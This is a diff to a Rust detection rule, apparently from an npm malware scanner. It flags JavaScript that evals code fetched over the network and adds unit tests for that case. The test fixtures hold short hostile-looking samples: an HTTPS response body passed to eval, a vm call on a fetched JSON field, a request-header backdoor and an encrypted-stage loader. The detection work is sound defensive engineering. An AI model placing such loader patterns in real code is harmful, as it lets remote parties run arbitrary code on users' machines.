@@ -8,8 +8,9 @@ crate::declare_rule! {
     /// Runs code built at run time: `eval`, `Function`/`new Function`, `vm.runIn*Context`,
     /// `vm.Script`, `vm.compileFunction` or `module._compile` with an argument that is not a plain
     /// string literal (template engines do this; so does every loader of a hidden payload).
-    /// `high` when the argument is a decoded string or the call runs at install time; `critical`
-    /// when the file decodes what it runs from HTTP request headers, bodies or query strings (a
+    /// `high` when the argument is a decoded string, when it comes from a network response read
+    /// in the same small hand-written file (a remote stage), or when the call runs at install
+    /// time; `critical` when the file decodes what it runs from HTTP request headers, bodies or query strings (a
     /// server backdoor), or decrypts it with a key written in the code (an encrypted stage).
     id: "eval-dynamic",
     category: Exec,
@@ -25,7 +26,9 @@ crate::declare_rule! {
            "eval(atob('Y29uc29sZS5sb2coMSk='))",
            "module.exports = () => (req, res, next) => { for (const k in req.headers) buf += hex(req.headers[k]); vm.runInThisContext(Buffer.from(buf, 'hex').toString()); next() }",
            "const d = crypto.createDecipheriv('aes-128-cbc', Buffer.from('7f3a9c2e5b1d8046'), iv); const code = d.update(blob, 'base64', 'utf8') + d.final('utf8'); vm.runInNewContext(code, { require })",
-           "function e(r){return Buffer.from(r,'hex').toString()} const m = new module.constructor(); m[e('5f636f6d70696c65')](src, '')"],
+           "function e(r){return Buffer.from(r,'hex').toString()} const m = new module.constructor(); m[e('5f636f6d70696c65')](src, '')",
+           "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { (0, eval)(s) }) })",
+           "const r = await fetch(u); const j = await r.json(); require('vm').runInThisContext(j.patch)"],
     pass: ["const h = req.headers; const u = JSON.parse(Buffer.from(h['x-ctx'], 'base64').toString())",
            "const d = crypto.createDecipheriv('aes-256-gcm', key, iv); const plain = d.update(c)",
            "eval('1 + 1')", "const f = new Function('return this')", "const evaluate = x => x; evaluate(code)"],
@@ -47,9 +50,80 @@ fn is_eval(path: &str) -> bool {
     ) || path.ends_with("._compile")
 }
 
+/// Whether the evaluated variable (or the object it is a member of) holds a response body: it
+/// accumulates `data` chunks (`s += d`) or is assigned from `.text()`, `.json()`,
+/// `JSON.parse(…)` or a `.data` field.
+fn from_response(text: &str, call: &crate::js::Call, arg: &crate::js::Arg) -> bool {
+    // The resolved path's root (`j` in `j.patch`) and the name written in the source (the path
+    // of `j = JSON.parse(s)` resolves to `JSON.parse.patch`).
+    let resolved = arg.path.as_deref().and_then(|p| p.split('.').next());
+    let written = first_arg_name(text, call);
+    [resolved, written]
+        .into_iter()
+        .flatten()
+        .any(|root| holds_response(text, root))
+}
+
+fn holds_response(text: &str, root: &str) -> bool {
+    if root.is_empty()
+        || !root
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$')
+    {
+        return false;
+    }
+    if text.contains(&format!("{root} += ")) || text.contains(&format!("{root}+=")) {
+        return true;
+    }
+    let assign = [format!("{root} = "), format!("{root}=")];
+    text.lines().any(|l| {
+        assign.iter().any(|a| {
+            l.match_indices(a.as_str()).any(|(i, _)| {
+                let before = l[..i].chars().next_back();
+                let rest = &l[i + a.len()..];
+                !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
+                    && [
+                        ".text()",
+                        ".json()",
+                        "JSON.parse(",
+                        ".data",
+                        ".responseText",
+                    ]
+                    .iter()
+                    .any(|k| rest.contains(k))
+            })
+        })
+    })
+}
+
+/// The identifier the call's argument list starts with, read from the source
+/// (`(0, eval)(s)`, `vm.runInThisContext(j.patch)`), for arguments that fold to a constant.
+fn first_arg_name<'t>(text: &'t str, call: &crate::js::Call) -> Option<&'t str> {
+    let start = call.off as usize;
+    let snippet = text.get(start..(start + 300).min(text.len()))?;
+    let name = call.path.rsplit('.').next()?;
+    let at = snippet.find(name)? + name.len();
+    let rest = snippet[at..].trim_start_matches([')', ' ']);
+    let rest = rest.strip_prefix('(')?.trim_start();
+    let end = rest
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+        .unwrap_or(rest.len());
+    (end > 0).then(|| &rest[..end])
+}
+
+fn is_network_call(path: &str) -> bool {
+    path == "fetch"
+        || ["http.", "https.", "axios", "net.", "http2."]
+            .iter()
+            .any(|p| path.starts_with(p))
+}
+
 fn check(pkg: &Package, out: &mut Emitter) {
     let request = crate::regex!(r"\b(req|request|ctx\.request)\.(headers|body|query|cookies)\b");
     let decode = crate::regex!(r#"Buffer\.from\([^)]*['"](hex|base64)['"]|\batob\("#);
+    let response = crate::regex!(
+        r#"\.on\(\s*['"]data['"]|\.text\(\)|\.json\(\)|\b(res|resp|response)\.data\b|\.responseText\b"#
+    );
     let decrypt = crate::regex!(
         r#"createDecipheriv\(\s*['"][\w-]+['"]\s*,\s*(Buffer\.from\(\s*)?['"`]|createDecipheriv\(\s*['"][\w-]+['"]\s*,\s*(\w+)\b"#
     );
@@ -64,6 +138,9 @@ fn check(pkg: &Package, out: &mut Emitter) {
         // compilation side by side.
         let small = !f.minified && f.text.len() < 100_000;
         let from_request = small && from_request;
+        // Code received over the network: a response body read in the same small file.
+        let remote =
+            small && response.is_match(text) && js.calls.iter().any(|c| is_network_call(&c.path));
         let decrypted = small
             && decrypt.captures(text).is_some_and(|c| match c.get(2) {
                 None => true,
@@ -119,6 +196,18 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 );
                 continue;
             }
+            // The evaluated value is a variable (or a member of one) in a file that reads a
+            // response body: what it runs came over the network.
+            if remote && (arg.lit.is_none() || arg.ident) && from_response(text, c, arg) {
+                out.hit_sev(
+                    Severity::High,
+                    pkg,
+                    f,
+                    c.off,
+                    format!("runs code received over the network with {}", c.path),
+                );
+                continue;
+            }
             let sev = if decoded
                 || gives_require
                 || pkg.is_install_file(f)
@@ -137,5 +226,42 @@ fn check(pkg: &Package, out: &mut Emitter) {
             };
             out.hit_sev(sev, pkg, f, c.off, format!("runs {what} with {}", c.path));
         }
+    }
+}
+
+#[cfg(test)]
+mod remote_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    #[test]
+    fn template_compiler_beside_a_json_fetch_is_not_remote_code() {
+        // A config client that parses a JSON response and, elsewhere, compiles templates with
+        // `new Function(param, src)`: the evaluated value is a parameter, not the response.
+        let src = "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => cb(JSON.parse(s))) }); const t = (src) => new Function('o', src);";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(hits.iter().all(|h| h.severity < Severity::High), "{hits:?}");
+    }
+
+    #[test]
+    fn vm_run_of_a_parsed_response_field_is_high() {
+        let src = "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { const j = JSON.parse(s); if (j.patch) require('vm').runInThisContext(j.patch)(require) }) })";
+        let hits = run(&super::RULE, "bin/cli.js", src);
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == Severity::High && h.message.contains("network")),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn eval_of_a_response_body_is_high() {
+        let src = "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { (0, eval)(s) }) })";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == Severity::High && h.message.contains("network")),
+            "{hits:?}"
+        );
     }
 }
